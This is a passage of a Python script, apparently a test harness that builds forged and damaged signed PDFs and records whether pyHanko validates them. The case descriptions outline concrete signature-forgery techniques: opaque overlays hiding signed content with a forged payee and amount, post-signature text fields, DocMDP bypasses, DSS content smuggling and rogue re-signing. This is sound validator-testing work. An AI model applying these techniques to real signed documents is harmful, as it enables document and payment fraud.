             pyhanko_note=PYHANKO_NO_VISIBLE_AFTER_CERTIFY),
        Case("ssa-uncertified-covering", "SSA", "signed", "invalid",
             "A visible approval by the approver (pyHanko, genuine CMS) on the uncertified "
             "document whose widget covers signed content of page 1 (the payee/amount lines, or "
             "the middle of a scan) with an appearance that paints an opaque white box and a "
             "forged payee and amount.", lambda i: ssa_covering_pyhanko(i.signed, i.approver)),
        Case("ssa-white-overlay-free-text-area", "SSA", "signed", "invalid",
             "A crafted visible signature by the approver whose appearance is only an opaque "
             "white box over signed content of page 1: it hides signed text and draws nothing.",
             lambda i: ssa_white_overlay(i.signed, i.approver)),
        Case("ssa-appearance-reuses-signed-objects", "SSA", "signed", "invalid",
             "A crafted visible signature by the approver in a free area of page 1 whose "
             "appearance draws, through its /Resources /XObject, an XObject of the signed "
             "revision (the scanned page image, or the hand-made document's logo form).",
             lambda i: ssa_reused_objects(i.signed, i.approver)),
        Case("eaa-widget-non-signature-field", "EAA", "signed", "invalid",
             "A revision after the approval signature adds a text field (/FT /Tx, new in the "
             "AcroForm and on page 1's /Annots) in a free area, whose value and appearance show "
             "a forged amount.", lambda i: eaa_text_field(i.signed)),
        Case("ssa-visible-after-p1", "SSA", p1, "invalid",
             f"A document {made_here} with DocMDP P=1 (no changes), then a visible approval by "
             "the approver made by pyHanko (its refusal to sign after P=1 bypassed) in a free "
             "area of page 1.",
             lambda i: visible_approval(i.certified_p1, i.approver, ignore_docmdp=True)),
        Case("eaa-p3-covering-freetext", "EAA", p3, "invalid",
             f"A document {made_here} with DocMDP P=3 (annotations allowed), then a FreeText "
             "annotation with an opaque appearance showing a forged payee and amount over signed "
             "content of page 1.",
             lambda i: eaa_annotations(i.certified_p3, [FREETEXT],
                                       rect=inked_area(i.certified_p3))),
        Case("valid-p3-comment-free-area", "VALID", p3, "valid",
             f"A document {made_here} with DocMDP P=3 (annotations allowed), then a sticky-note "
             "(Text) comment with its own icon appearance in a free area of page 1.",
             lambda i: p3_comment(i.certified_p3), pyhanko_note=PYHANKO_NO_P3),
        Case("ssa-hidden-then-shown", "SSA", "signed", "invalid",
             "An invisible approval by the approver (pyHanko); a later revision gives its widget "
             "a rectangle over signed content of page 1 and an opaque appearance with a forged "
             "payee and amount.", lambda i: ssa_hidden_then_shown(i.signed, i.approver)),
    ]


def damage_cases() -> list[Case]:
    return [
        Case("damage-flip-content", "DAMAGE", "signed", "invalid",
             "One bit flipped in page 1's content stream, inside the signed range.",
             lambda i: damage_flip_content(i.signed)),
        Case("damage-flip-approved-content", "DAMAGE", "approved", "invalid",
             "One bit flipped in page 1's content stream, covered by both signatures.",
             lambda i: damage_flip_content(i.approved)),
        Case("damage-flip-cms", "DAMAGE", "signed", "invalid",
             "One hex digit of the signature value inside the CMS changed.",
             lambda i: damage_flip_cms(i.signed)),
        Case("damage-flip-signature-dictionary", "DAMAGE", "signed", "invalid",
             "One digit of the signing time /M in the signed signature dictionary changed.",
             lambda i: damage_flip_signature_dictionary(i.signed)),
        Case("damage-truncated", "DAMAGE", "signed", "invalid",
             "The file cut in the middle of its last revision.",
             lambda i: damage_truncate(i.signed)),
        Case("damage-garbage-after-eof", "DAMAGE", "signed", "invalid",
             "Binary garbage (not a revision) appended after the final %%EOF.",
             lambda i: damage_garbage(i.signed)),
        Case("damage-dss-smuggle", "DAMAGE", "signed", "invalid",
             "A revision that adds a /DSS certificate also redefines page 1's content stream.",
             lambda i: damage_dss_smuggle(i.signed, issuing_ca(i))),
        Case("resign-rogue", "RESIGN", "signed", "indeterminate",
             "The signature revision is dropped, page 1 forged, and the same field signed by "
             "the rogue signer, whose root is not trusted.",
             lambda i: resign_rogue(i.signed, i.rogue)),
    ]


def all_cases() -> list[Case]:
    return (baseline_cases() + usf_cases() + isa_cases() + swa_cases() + shadow_cases()
            + certification_cases() + later_signature_cases() + damage_cases())


# ---------------------------------------------------------------------------------------------
# pyHanko's view
# ---------------------------------------------------------------------------------------------

@contextlib.contextmanager
def time_limit(seconds: int) -> Iterator[None]:
    """Raise TimeoutError in this thread if the block runs longer than `seconds`."""
    def expire(_signum, _frame):
        raise TimeoutError(f"pyHanko took longer than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def error_text(error: BaseException) -> str:
    return f"{type(error).__name__}: {error}"[:500]


def validate_one(embedded, root) -> dict:
    """pyHanko's verdict on one embedded signature, or the error it raised."""
    try:
        context = ValidationContext(trust_roots=[root], allow_fetching=False,
                                    revocation_mode="soft-fail")
        status = validate_pdf_signature(embedded, context, ts_validation_context=context)
    except Exception as error:  # pyHanko's own parse/validation errors, kept as data
        return {"field": embedded.field_name, "error": error_text(error)}
    return {
        "field": embedded.field_name,
        "intact": status.intact,
        "valid": status.valid,
        "trusted": status.trusted,
        "bottomLine": status.bottom_line,
        "coverage": status.coverage.name if status.coverage else None,
        "modificationLevel": status.modification_level.name if status.modification_level else None,
        "docmdpOk": status.docmdp_ok,
    }


def combine(values: list) -> bool | None:
    """False if any is False, else None if any is unknown (or none given), else True."""
    if any(value is False for value in values):
        return False
    if not values or any(value is None for value in values):
        return None
    return True


MODIFICATION_ORDER = ["NONE", "LTA_UPDATES", "FORM_FILLING", "ANNOTATIONS", "OTHER"]


def worst_modification(levels: list[str | None]) -> str | None:
    known = [level for level in levels if level in MODIFICATION_ORDER]
    return max(known, key=MODIFICATION_ORDER.index) if known else None


def pyhanko_verdict(data: bytes, root) -> dict:
    verdict = {"bottomLine": None, "intact": None, "modificationLevel": None, "error": None,
               "signatures": []}
    try:
        with time_limit(VALIDATION_TIMEOUT_SECONDS):
            reader = PdfFileReader(io.BytesIO(data), strict=False)
            verdict["signatures"] = [validate_one(item, root) for item in reader.embedded_signatures]
    except Exception as error:  # a hostile file may break the reader in any way
        verdict["error"] = error_text(error)
        return verdict
    signatures = verdict["signatures"]
    errors = [item["error"] for item in signatures if "error" in item]
    verdict["bottomLine"] = combine([item.get("bottomLine") for item in signatures])
    verdict["intact"] = combine([item.get("intact") for item in signatures])
    verdict["modificationLevel"] = worst_modification(
        [item.get("modificationLevel") for item in signatures])
    verdict["error"] = "; ".join(errors) if errors else (
        None if signatures else "pyHanko found no signature")
    return verdict


# ---------------------------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------------------------

def parse_arguments(argv: list[str]) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, required=True, help="output folder")
    parser.add_argument("--certs", type=Path, required=True, help="the test PKI folder")
    parser.add_argument("--signed", type=Path, help="a PDF with one approval signature")
    parser.add_argument("--approved", type=Path, help="a PDF with two approval signatures")
    parser.add_argument("--certified", type=Path, help="a PDF certified with DocMDP P=2")
    return parser.parse_args(argv)


def build_case(case: Case, inputs: Inputs) -> bytes:
    data = case.build(inputs)
    if not data:
        raise ForgeryError("the case produced no bytes")
    return data


def manifest_entry(case: Case, verdict: dict) -> dict:
    return {"file": f"{case.name}.pdf", "class": case.klass, "description": case.description,
            "basedOn": case.based_on, "expect": case.expect, "pyhanko": verdict,
            "pyhankoNote": case.pyhanko_note}


def summary_line(entry: dict) -> str:
    verdict = entry["pyhanko"]
    flag = " <-- pyHanko accepts a forgery" if (
        verdict["bottomLine"] is True and entry["expect"] != "valid") else ""
    return (f"{entry['file']:<40} {entry['class']:<20} expect={entry['expect']:<13} "
            f"pyhanko={verdict['bottomLine']!s:<5} mod={verdict['modificationLevel']}{flag}")


def main(argv: list[str]) -> int:
    started = time.monotonic()
    args = parse_arguments(argv)
    logging.getLogger("pyhanko").setLevel(logging.CRITICAL)
    logging.getLogger("pyhanko_certvalidator").setLevel(logging.CRITICAL)
    try:
        inputs = prepare_inputs(args)
        root = load_cert_from_pemder(str(args.certs / "root-ca.pem"))
    except Exception as error:  # unreadable PKI or an input pyHanko cannot parse
        print(f"error: cannot prepare the inputs: {error_text(error)}", file=sys.stderr)
        return 2
    args.out.mkdir(parents=True, exist_ok=True)
    manifest, failures = [], []
    for case in all_cases():
        try:
            data = build_case(case, inputs)
        except Exception as error:  # report and go on with the other cases
            failures.append(f"{case.name}: {error_text(error)}")
            continue
        (args.out / f"{case.name}.pdf").write_bytes(data)
        manifest.append(manifest_entry(case, pyhanko_verdict(data, root)))
    (args.out / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n", "utf-8")
    for entry in manifest:
        print(summary_line(entry))
    print(f"{len(manifest)} cases written to {args.out} in {time.monotonic() - started:.1f} s")
    for failure in failures:
        print(f"could not build {failure}", file=sys.stderr)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
